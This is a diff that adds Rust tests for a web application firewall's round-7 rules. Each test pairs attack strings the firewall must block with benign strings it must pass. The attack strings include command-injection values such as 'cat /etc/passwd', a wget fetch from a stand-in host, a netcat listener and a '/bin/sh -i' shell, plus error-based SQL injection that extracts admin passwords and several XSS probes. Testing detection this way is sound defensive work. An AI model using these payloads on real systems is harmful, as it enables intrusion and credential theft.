@@ -1,0 +1,141 @@
+//! Round 7 rule tests: rule classes the CRS check half showed we had no rule for (commands
+//! as the whole `User-Agent` / `Referer`, error-based double queries, whole-value probe
+//! calls, namespaced script tags), each with attacks it must block and benign twins it must
+//! pass.
+
+mod common;
+
+use common::{attack, benign, shared};
+
+/// Inspects a request whose only unusual part is header `name: value`.
+fn with_header(name: &str, value: &str) -> portcullis_firewall::Verdict {
+    let req = http::Request::builder()
+        .uri("/api/v1/things")
+        .header("host", "api.example.com")
+        .header(name, value)
+        .body(())
+        .expect("request");
+    let (parts, ()) = req.into_parts();
+    shared().inspect(&parts, &[])
+}
+
+fn header_blocked(name: &str, value: &str, rule: &str) {
+    let v = with_header(name, value);
+    assert!(v.blocked, "{name}: {value:?} allowed ({:?})", v.rule_ids());
+    assert!(
+        v.rule_ids().contains(&rule),
+        "{name}: {value:?} blocked by {:?}, not {rule}",
+        v.rule_ids()
+    );
+}
+
+fn header_passes(name: &str, value: &str) {
+    let v = with_header(name, value);
+    assert!(!v.blocked, "{name}: {value:?} refused ({:?})", v.rule_ids());
+}
+
+#[test]
+fn cmdi_132_a_command_line_as_user_agent_or_referer() {
+    header_blocked("user-agent", "ansible all -m ping", "cmdi-132");
+    header_blocked("user-agent", "'cscli' alerts list", "cmdi-132");
+    header_blocked("user-agent", "set -o history", "cmdi-132");
+    header_blocked(
+        "user-agent",
+        "/usr/bin/wget -qO- http://x.example/s",
+        "cmdi-132",
+    );
+    header_blocked("referer", "env --version", "cmdi-132");
+    header_blocked("referer", "cat /etc/passwd", "cmdi-132");
+    // Real agents: product/version tokens, bare product names, English words.
+    for ua in [
+        "curl/8.5.0",
+        "Wget/1.21.3",
+        "python-requests/2.31.0",
+        "Ruby",
+        "ansible-httpget",
+        "kubectl/v1.29.0 (linux/amd64) kubernetes/4b7e",
+        "Debian APT-HTTP/1.3 (2.6.1)",
+        "Source Code Fetcher 1.0",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+        "lua-resty-http/0.17.1 (Lua) ngx_lua/10025",
+        "Docker-Client/24.0.7 (linux)",
+    ] {
+        header_passes("user-agent", ua);
+    }
+    header_passes("referer", "https://app.example.com/settings?tab=env");
+    header_passes("referer", "https://docs.example.com/cli/ansible-all-m-ping");
+    // The same command line in a body field is a documentation value, not this rule.
+    let v = {
+        let (parts, body) = common::build("json", "ansible all -m ping", Some("code"));
+        shared().inspect(&parts, &body)
+    };
+    assert!(!v.rule_ids().contains(&"cmdi-132"), "{:?}", v.rule_ids());
+}
+
+#[test]
+fn cmdi_126_a_variable_run_with_an_option() {
+    attack("cmdi-126", "query", "q", "a=nc&&$a -nlvp 555");
+    attack("cmdi-126", "header", "x-data", "t=/bin/sh;$t -i");
+    benign("json", "snippet", "$a - $b");
+    benign("json", "snippet", "x=1; total = $x - 2");
+}
+
+#[test]
+fn sqli_140_error_based_double_queries_and_nested_subqueries() {
+    attack(
+        "sqli-140",
+        "form",
+        "id",
+        "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
+    );
+    attack(
+        "sqli-140",
+        "query",
+        "q",
+        "from(select count(*),concat((select (select concat(user_name,0x7c,password)) from admin limit 1)",
+    );
+    attack(
+        "sqli-140",
+        "json",
+        "q",
+        "x' and (select (select 1) from dual)",
+    );
+    benign(
+        "json",
+        "note",
+        "pick a random floor (rand 0 to 2) for the next game",
+    );
+    benign(
+        "json",
+        "note",
+        "count the rows (selected ones) and concatenate them",
+    );
+}
+
+#[test]
+fn xss_118_a_whole_value_probe_call() {
+    attack("xss-118", "query", "q", "alert()");
+    attack("xss-118", "query", "q", "prompt(1)");
+    attack("xss-118", "form", "arg", "setInterval(code, 1)");
+    attack("xss-118", "json", "arg", "atob(location.hash)");
+    benign("query", "label", "Confirm (optional)");
+    benign("json", "note", "Set an alert() reminder in the app for 9am");
+    benign("json", "status", "prompt");
+}
+
+#[test]
+fn xss_101_namespaced_script_tags() {
+    attack(
+        "xss-101",
+        "query",
+        "body",
+        "< x: script>alert(1)</x:script>",
+    );
+    attack(
+        "xss-101",
+        "json",
+        "html",
+        "<svg:script href=//x.example/a.js>",
+    );
+    benign("json", "note", "the x:script attribute of our build tool");
+}
